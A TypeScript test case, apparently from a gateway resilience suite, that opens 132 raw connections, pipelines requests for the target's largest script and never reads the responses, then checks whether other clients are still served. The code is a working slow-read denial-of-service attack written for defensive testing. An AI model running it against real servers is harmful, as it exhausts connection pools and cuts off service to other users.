import { setTimeout as pause } from 'node:timers/promises';
import type { AttackCase } from '../attack-case.ts';
import { destroyAll, openConnection } from '../traffic/raw-connection.ts';
import { serveOthersDuring } from '../traffic/serve-others.ts';

const holdMs = 10_000;
/** More than the gateway's connections to one upstream. */
const connections = 132;
/**
 * Number of requests sent without waiting for responses, enough to fill the buffers between gateway and client: some megabytes on one
 * machine.
 */
const requestsPerConnection = 9;

async function largestScript(url: URL): Promise<string> {
  const document = await (await fetch(url)).text();
  const paths = [...new Set([...document.matchAll(/"(\/[^"\s]+\.js)"/g)].map(([, path]) => path as string))];
  const sized = await Promise.all(
    paths.map(async (path) => ({
      path,
      size: (await (await fetch(new URL(path, url), { headers: { 'accept-encoding': 'identity' } })).arrayBuffer())
        .byteLength,
    })),
  );
  return sized.toSorted((one, other) => other.size - one.size)[0]?.path ?? '/robots.txt';
}

export const unreadResponses: AttackCase = {
  name: 'responses that nobody reads',
  async run({ url }) {
    const path = await largestScript(url);
    const request = `GET ${path} HTTP/1.1\r\nhost: ${url.host}\r\naccept-encoding: identity\r\n\r\n`;
    const sockets = Array.from({ length: connections }, () =>
      openConnection(url, request.repeat(requestsPerConnection)).pause(),
    );
    try {
      return await serveOthersDuring(url, pause(holdMs));
    } finally {
      destroyAll(sockets);
    }
  },
};
